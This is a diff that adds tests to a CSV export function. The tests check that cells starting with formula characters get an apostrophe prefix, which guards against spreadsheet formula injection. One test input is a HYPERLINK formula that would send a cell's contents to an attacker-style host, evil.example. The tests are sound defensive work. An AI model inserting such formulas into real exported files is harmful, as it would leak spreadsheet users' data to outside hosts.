@@ -34,3 +34,16 @@ test.each<[Cell, string]>([
 ])('the cell %j is written as it is', (cell, expected) => {
   expect(written(['a', cell])).toBe(`\uFEFFid,text\r\na,${expected}\r\n`);
 });
+
+test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '=HYPERLINK("https://evil.example/?"&A1)'])(
+  'no spreadsheet takes the text %j for a formula',
+  (cell) => {
+    const [, row = ''] = written(['a', cell]).split('\r\n');
+    expect(row.replace(/^a,"?/, '')).toMatch(/^'/);
+    expect(row.replaceAll('""', '"')).toContain(cell);
+  },
+);
+
+test('a number that is below nought is none', () => {
+  expect(written(['a', -1])).toBe('\uFEFFid,text\r\na,-1\r\n');
+});
